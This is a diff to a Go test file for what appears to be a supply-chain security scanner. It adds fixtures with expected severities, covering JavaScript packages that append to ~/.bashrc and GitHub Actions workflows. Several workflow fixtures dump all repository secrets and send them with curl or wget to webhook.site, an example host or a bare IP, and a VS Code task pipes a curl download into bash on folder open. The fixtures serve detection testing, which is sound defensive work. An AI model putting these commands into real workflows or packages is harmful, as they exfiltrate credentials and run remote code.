@@ -27,6 +27,15 @@ rl.question("ok? ", () => fs.appendFileSync(require("os").homedir() + "/.bashrc"
 		// an alias the package's command adds when run with --install;
 		// the same write in its main module, which its user never asked for
 		{"bashrc_alias_by_flag", map[string]string{"package.json": rt.Pkg(`"bin":{"idgen":"./bin/idgen.js"}`), "bin/idgen.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityMedium},
+		// a subcommand of the package's command calls the library
+		// function that adds the line; a library that writes as soon as
+		// the command loads it does not ask
+		{"bashrc_hook_by_subcommand", map[string]string{"package.json": rt.Pkg(`"bin":{"dots":"bin/dots.js"},"main":"lib/dots.js"`),
+			"bin/dots.js": `const d = require("../lib/dots"); const [cmd] = process.argv.slice(2); if (cmd === "hook") d.hook()`,
+			"lib/dots.js": `const fs = require("fs"), path = require("path"); exports.hook = () => fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "\ndots status\n")`}, finding.SeverityMedium},
+		{"bashrc_written_on_load_by_command", map[string]string{"package.json": rt.Pkg(`"bin":{"dots":"bin/dots.js"},"main":"lib/dots.js"`),
+			"bin/dots.js": `const d = require("../lib/dots"); const [cmd] = process.argv.slice(2); if (cmd === "hook") d.hook()`,
+			"lib/dots.js": `const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(require("os").homedir(), ".bashrc"), "\ndots status\n"); exports.hook = () => 1`}, finding.SeverityHigh},
 		{"bashrc_alias_in_main", map[string]string{"package.json": rt.Pkg(`"main":"index.js"`), "index.js": "const fs = require(\"fs\"), path = require(\"path\"); if (process.argv.slice(2).includes(\"--install\")) { const rc = path.join(require(\"os\").homedir(), \".zshrc\"); fs.writeFileSync(rc, fs.readFileSync(rc, \"utf8\") + \"\\nalias idgen='npx idgen'\\n\") }"}, finding.SeverityHigh},
 		{"bashrc_loaded_unasked", map[string]string{"cli.js": `const rl = require("readline"); require("./lib/other")`, "lib/other.js": `module.exports = 1`,
 			"lib/rc.js": `exports.add = () => require("fs").appendFileSync(require("os").homedir() + "/.bashrc", "\neval \"$(dirnav init bash)\"\n")`}, finding.SeverityHigh},
@@ -129,6 +138,25 @@ func TestIDEAutorun(t *testing.T) {
 		{"curl_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"curl -s https://x.invalid/s | bash","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityCritical},
 		{"build_on_open", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm run watch","runOptions":{"runOn":"folderOpen"}}]}`}, finding.SeverityHigh},
 		{"normal_tasks", map[string]string{".vscode/tasks.json": `{"tasks":[{"command":"npm test"}]}`}, finding.SeverityNone},
+	})
+}
+
+func TestCIWorkflow(t *testing.T) {
+	wf := func(env, run string) string {
+		return "name: lint\non:\n  pull_request_target:\njobs:\n  lint:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - env:\n          " +
+			env + "\n        run: |\n          " + run + "\n"
+	}
+	rt.Check(t, CIWorkflow{}, []rt.Case{
+		// a template a CLI writes into the repository, whatever its name
+		{"all_secrets_to_bin", map[string]string{"templates/lint.yml.tpl": wf("ALL: ${{ toJSON(secrets) }}", `curl -s -X POST --data "$ALL" https://webhook.site/3f6c2a1e`)}, finding.SeverityCritical},
+		{"all_secrets_to_any_host", map[string]string{".github/workflows/ci.yml": wf("ALL: ${{ toJSON(secrets) }}", `curl -d "$ALL" https://ci-cache.example.com/upload`)}, finding.SeverityCritical},
+		{"token_to_public_ip", map[string]string{"ci.yaml": wf("T: ${{ github.token }}", `wget -q --post-data "t=$T" http://203.0.113.9/t`)}, finding.SeverityCritical},
+		{"all_secrets_dumped", map[string]string{"wf.yml": wf("ALL: ${{ toJSON(secrets) }}", `echo "$ALL" | base64 -w0 | base64 -w0`)}, finding.SeverityHigh},
+		// publishing with a token, a deploy hook and a chat notification
+		{"release_workflow", map[string]string{".github/workflows/release.yml": wf("NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}",
+			`npm publish && curl -H "Authorization: Bearer $GH" https://api.github.com/repos/o/r/releases && curl -X POST -H "X-Key: ${{ secrets.DEPLOY_KEY }}" https://deploy.example.com/hook && curl -d "done" https://hooks.slack.com/services/${{ secrets.SLACK_PATH }}`)}, finding.SeverityNone},
+		// documentation of the attack is not a workflow the package ships
+		{"docs", map[string]string{"docs/attacks.md": wf("ALL: ${{ toJSON(secrets) }}", `curl -d "$ALL" https://webhook.site/x`)}, finding.SeverityNone},
 	})
 }
 
